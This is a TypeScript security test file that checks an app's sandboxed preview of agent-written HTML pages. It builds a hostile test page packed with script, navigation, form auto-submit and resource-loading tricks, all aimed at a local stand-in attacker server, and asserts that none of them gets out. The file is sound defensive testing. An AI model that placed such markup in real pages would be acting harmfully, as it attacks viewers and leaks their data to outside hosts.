// A page written by an agent attacks the person who previews it, in the app's frame and on its own. A separate server
// records every connection that gets out, even a silent one.
import { afterAll, beforeAll, expect, test } from 'bun:test'
import { mkdir, writeFile } from 'node:fs/promises'
import { createServer, type Server } from 'node:net'
import { join } from 'node:path'
import { op, type Running, servers } from '../server/serving.ts'
import { signIn } from './signed-in.ts'
import { visitors } from './visiting.ts'

const { folder, start } = servers()
const visitor = visitors()

let listener: Server
let evil: string
const reached: string[] = []

beforeAll(async () => {
  listener = createServer((socket) => {
    reached.push('a connection')
    socket.on('data', (bytes) => reached.push(bytes.toString('latin1').split('\r\n')[0] ?? ''))
    socket.on('error', () => {})
  })
  await new Promise<void>((resolve) => listener.listen(0, '127.0.0.1', resolve))
  evil = `http://127.0.0.1:${(listener.address() as { port: number }).port}`
})
afterAll(() => void listener.close())

/** Everything a page can try, with or without scripts. */
function attack(): string {
  const to = (name: string) => `${evil}/${name}`
  return `<!doctype html>
<html><head>
<base href="${to('base')}/">
<meta http-equiv="refresh" content="0;url=${to('refresh')}">
<meta http-equiv="Content-Security-Policy" content="default-src *; script-src * 'unsafe-inline'">
<meta http-equiv="x-dns-prefetch-control" content="on">
<link rel="stylesheet" href="${to('style')}">
<link rel="preconnect" href="${evil}">
<link rel="dns-prefetch" href="${evil}">
<link rel="prefetch" href="${to('prefetch')}">
<link rel="preload" as="image" href="${to('preload')}">
<link rel="modulepreload" href="${to('module')}">
<link rel="icon" href="${to('icon')}">
<link rel="manifest" href="${to('manifest')}">
<style>@import url(${to('import')}); body { background: url(${to('background')}) }
@font-face { font-family: x; src: url(${to('font')}) } p { font-family: x }</style>
<script>parent.document.title = 'owned'; fetch('${to('fetch')}'); new Image().src = '${to('image')}'</script>
<script src="${to('script')}"></script>
</head><body onload="document.title = 'owned'; top.location = '${to('top')}'">
<p id="shown">Visits, week 45</p>
<img src="${to('img')}" onerror="parent.document.title = 'owned'">
<img srcset="${to('srcset')} 2x"><picture><source srcset="${to('source')}"><img></picture>
<svg><image href="${to('svg')}"/><script>parent.document.title = 'owned'</script></svg>
<iframe src="${to('frame')}"></iframe><iframe srcdoc="<script>top.document.title='owned'</script>"></iframe>
<object data="${to('object')}"></object><embed src="${to('embed')}">
<video src="${to('video')}" poster="${to('poster')}" autoplay></video><audio src="${to('audio')}" autoplay></audio>
<form id="form" action="${to('form')}" method="post"><input name="a" value="b" autofocus onfocus="form.submit()"><button id="send">Send</button></form>
<a id="link" href="${to('link')}" ping="${to('ping')}">Link</a>
<a id="top" href="${to('toplink')}" target="_top">Top</a>
<a id="blank" href="${to('blank')}" target="_blank">Blank</a>
<a id="script" href="javascript:parent.document.title='owned'">Script</a>
<a id="api" href="/api/me">Ours</a>
</body></html>`
}

async function pushed(server: Running): Promise<string> {
  const place = join(folder(), 'work')
  await mkdir(place, { recursive: true })
  await writeFile(join(place, 'visits.html'), attack())
  const { body } = await op(server, 'workspace-add', { path: place, label: 'Site' })
  const { workspace_id: workspace } = body.workspace as { workspace_id: string }
  const { body: made } = await op(server, 'push', { workspace, docs: ['visits.html'] })
  return String(made.entry_id)
}

test('a preview in the app’s frame cannot run scripts, connect, or navigate', async () => {
  const server = await start()
  const ann = await visitor()
  const entry = await pushed(server)
  await signIn(ann, server, `/inbox/${entry}`)
  await ann.page.click('text="Preview"')
  const frame = ann.page.frameLocator('iframe')
  await frame.locator('#shown').waitFor()
  expect(await ann.page.locator('iframe').getAttribute('sandbox')).toBe('')
  const before = ann.page.url()
  // The page and the frame can't access each other, because they have different origins.
  expect(await ann.page.evaluate('document.querySelector("iframe").contentDocument')).toBe(null)
  for (const id of ['link', 'top', 'blank', 'script', 'api', 'send']) {
    await frame.locator(`#${id}`).click()
    // A link that is blocked leaves an empty frame behind.
    await ann.page.click('text="Source"')
    await ann.page.click('text="Preview"')
    await frame.locator('#shown').waitFor()
  }
  expect(ann.page.url()).toBe(before)
  expect(await ann.page.title()).not.toContain('owned')
  expect(ann.context.pages()).toHaveLength(1)
  expect(reached).toEqual([])
})

test('a preview opened at its own address is just as powerless', async () => {
  const server = await start()
  const ann = await visitor()
  const entry = await pushed(server)
  await signIn(ann, server)
  await ann.page.goto(`${server.url}/api/inbox/${entry}/preview?path=visits.html`)
  await ann.page.locator('#shown').waitFor()
  expect(await ann.page.evaluate('origin')).toBe('null')
  expect(await ann.page.title()).not.toContain('owned')
  const refused = await ann.page.evaluate('localStorage.length').catch(String)
  expect(refused).toContain('SecurityError')
  expect(reached).toEqual([])
})
